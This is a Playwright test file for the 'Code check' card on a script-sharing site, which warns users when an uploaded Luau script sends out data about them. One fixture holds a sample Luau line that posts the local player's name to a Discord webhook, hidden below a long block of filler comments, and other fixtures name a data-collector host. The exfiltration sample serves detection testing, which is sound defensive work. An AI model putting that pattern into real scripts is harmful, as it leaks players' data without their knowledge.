import { UNREAD } from '@scriptyard/luau-behavior/capabilities'
import type { Behavior } from '#contract/behavior.ts'
import { expect, expectAccessible, expectNoOverflow, measureLayoutShift, open, test, type Page, PHONE } from './page.ts'
import { arriveAsNewcomer, changeScript, publishScript, waitForCard } from './publishing.ts'
import { releaseWaiting } from './waiting.ts'

const FILLER = '-- A long comment, so that the request is beyond the preview.\n'.repeat(40)
const LOGGER = `${FILLER}local me = game:GetService("Players").LocalPlayer
request({ Url = "https://discord.com/api/webhooks/123456789012345678/demo", Method = "POST", Body = me.Name })
`
const REQUEST_LINE = 42

const card = (page: Page) => page.getByRole('region', { name: 'Code check' })
const finding = (page: Page) =>
  card(page)
    .getByRole('listitem')
    .filter({ hasText: /Sends (data about you|your name)/ })

test('an update that starts to send data says so on the page, with its line, and in the history', async ({
  page,
  signInAs,
}) => {
  await arriveAsNewcomer(page)
  const path = await publishScript(page, { title: 'Quiet counter', script_content: 'print("first of two")\n' })
  await waitForCard(page, path)
  await page.goto(path)
  await expect(card(page)).toContainText('Nothing found in our code check')
  await changeScript(page, path, {
    version: '1.1.0',
    script_content: LOGGER,
    declared_capabilities: ['net.send'],
    declared_hosts: [],
  })
  await releaseWaiting(await signInAs('okapi', '/moderation/held'), path)
  await waitForCard(page, path)
  await page.goto(path)
  const change = /This update starts to .*send data about you.* contact discord\.com\./
  await expect(card(page)).toContainText(change)
  await test.step('a finding leads to its line and back, with the keyboard only', async () => {
    await expect(finding(page)).toContainText('Sends your name to discord.com')
    await expect(finding(page)).toContainText('Not declared')
    await expect(finding(page)).toContainText('Seen in the code')
    await expect(card(page)).toContainText('As declared')
    await expectAccessible(page)

    await finding(page).getByRole('group').locator('summary').press('Enter')
    await expect(finding(page)).toContainText('Body = me.Name')
    await expectAccessible(page)
    await finding(page)
      .getByRole('link', { name: `Line ${REQUEST_LINE}` })
      .press('Enter')
    await expect(page).toHaveURL(new RegExp(`#L${REQUEST_LINE}$`))
    await expect(page.getByLabel(/^Code of /)).toBeFocused()
    const mark = page.getByRole('link', { name: `Line ${REQUEST_LINE}: Sends data about you` })
    await expect(mark).toBeInViewport()
    await expectAccessible(page)
    await page.keyboard.press('Tab')
    await expect(mark).toBeFocused()
    await page.keyboard.press('Enter')
    await expect(page).toHaveURL(/#finding-net\.exfiltration$/)
    await expect(finding(page).locator('summary')).toBeFocused()
    await expect(finding(page)).toBeInViewport()
  })
  await page.getByRole('button', { name: /^All \d+ versions/ }).click()
  await expect(page.getByRole('list', { name: 'Versions' }).getByRole('listitem').first()).toContainText(change)
})

const NOTHING: Behavior = {
  status: 'ready',
  analyzer_version: 1,
  is_outdated: false,
  analyzed_at: '2026-01-01T00:00:00.000Z',
  sha256: '0'.repeat(64),
  version: '1.0.0',
  compiles: true,
  compile_error: null,
  capabilities: [],
  hosts: [],
  obfuscator: null,
  opaque: [],
  declared_not_found: [],
}
const SENDING: Behavior['capabilities'][number] = {
  id: 'net.send',
  certainty: 'run',
  declared: 'declared',
  count: 1,
  evidence: [{ line: 1, end_line: 1, excerpt: 'send()', detail: 'request https://example.com/' }],
}

/** Opens a script of the list with cards in place of the API's, one for each request and the last one again. */
async function openWith(page: Page, index: number, ...cards: Partial<Behavior>[]): Promise<void> {
  // Before the list is opened, so that none of its requests is on its way while the routes change.
  await page.unrouteAll()
  const left = [...cards]
  await page.route(
    (url) => url.pathname === '/api/script-behavior',
    (route) => route.fulfill({ json: { behavior: { ...NOTHING, ...(left.length > 1 ? left.shift() : left[0]) } } }),
  )
  if (index === 0) await open(page, '/')
  else await page.getByRole('navigation', { name: 'Main' }).getByRole('link').first().click()
  // The page of the last script has a list of similar ones.
  await expect(card(page)).toHaveCount(0)
  await page.getByRole('article').nth(index).getByRole('heading').getByRole('link').click()
  await expect(card(page)).toBeVisible()
}

test('the card says what could not be checked, and waits for the reader with results that arrive in view', async ({
  page,
}) => {
  await openWith(page, 0, {
    compiles: false,
    compile_error: { line: 7, column: null, message: "Expected 'end', got <eof>" },
    is_outdated: true,
    declared_not_found: ['user.key'],
    hosts: [{ host: 'collector.example', line: 3, declared: 'undeclared', kind: 'collector' }],
    opaque: [{ reason: 'What the code does that it downloads', count: 2 }],
  })
  await expect(card(page)).toContainText("Doesn't compile (line 7)")
  await expect(card(page)).toContainText('Checked with an older version')
  await expect(card(page)).toContainText("but we didn't see it: Asks for a key.")
  await expect(card(page)).toContainText('What the downloaded code does (2 places)')
  await expect(card(page).getByRole('listitem').filter({ hasText: 'collector.example' })).toContainText(
    /Known to collect data.*Not declared/,
  )
  await expectAccessible(page)

  await test.step('what was not checked comes first if it is most of the script', async () => {
    await openWith(page, 3, {
      capabilities: [SENDING],
      hosts: [
        { host: 'example.com', line: 1, contacted: true, declared: 'not_asked', kind: null },
        { host: 'docs.example', line: 2, contacted: false, declared: 'not_asked', kind: null },
      ],
      opaque: [{ reason: UNREAD.obfuscated, count: 1 }],
    })
    await expect(card(page).getByRole('heading', { level: 3 })).toHaveText([
      'Not checked',
      'Internet',
      'Servers',
      'Also named in the text',
    ])
    await expectAccessible(page)
  })
  await test.step('without findings, nobody says that nothing was found', async () => {
    for (const [index, changes] of [
      { opaque: [{ reason: 'A function that is chosen while it runs', count: 1 }] },
      { compiles: false, compile_error: { line: 1, column: null, message: 'Expected <eof>' } },
      { compiles: null },
    ].entries()) {
      await openWith(page, 4 + index, changes)
      await expect(card(page)).toContainText(/Only partly checked|Doesn't compile/)
      await expect(card(page)).not.toContainText('Nothing found')
    }
  })
  await test.step('a failed analysis says that nothing is known', async () => {
    await openWith(page, 1, { status: 'failed', analyzed_at: null })
    await expect(card(page)).toContainText("We couldn't check this version")
  })
  await test.step('results that arrive in view wait for the reader, and nothing moves', async () => {
    const pending = { status: 'pending' as const, analyzed_at: null }
    await openWith(page, 2, pending, pending, { capabilities: [SENDING] })
    await expect(card(page)).toContainText("We're still running this script")
    await card(page).scrollIntoViewIfNeeded()
    const before = await measureLayoutShift(page)
    const show = card(page).getByRole('button', { name: 'Show results' })
    await expect(show).toBeVisible()
    await expectAccessible(page)
    expect((await measureLayoutShift(page)) - before).toBe(0)
    await show.click()
    await expect(card(page)).toContainText('Sends data to example.com')
    await expect(card(page)).toContainText('Seen when we ran it')
    await expect(card(page)).not.toContainText('still running')
  })
})

test.describe('on a phone', () => {
  test.use(PHONE)

  test('the first screen says what matters most, and the card fits', async ({ page }) => {
    await openWith(page, 0, { capabilities: [{ ...SENDING, id: 'net.exfiltration', declared: 'undeclared' }] })
    await expect(page.getByRole('region', { name: 'Warning' })).toBeInViewport()
    await expectNoOverflow(page)
    await expectAccessible(page)
  })
})
